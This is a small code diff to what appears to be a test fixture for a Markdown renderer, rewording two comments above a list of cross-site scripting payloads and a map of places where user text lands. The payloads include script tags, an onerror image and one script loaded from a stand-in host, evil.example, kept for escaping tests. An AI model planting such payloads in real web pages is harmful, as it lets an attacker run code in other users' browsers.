@@ -1,4 +1,4 @@
-/** Texts that run a script where they end up in HTML as they are. */
+/** Texts that run a script if they get into HTML unescaped. */
 export const payloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
@@ -80,7 +80,7 @@ export const payloads: readonly string[] = [
   '\uD800<img src=x onerror=alert(1)>',
 ];
 
-/** Every place in the dialect where a writer's text goes. */
+/** Every place in the Markdown dialect where a user's text goes. */
 export const places: Readonly<Record<string, (payload: string) => string>> = {
   paragraph: (payload) => payload,
   heading: (payload) => `# ${payload}`,
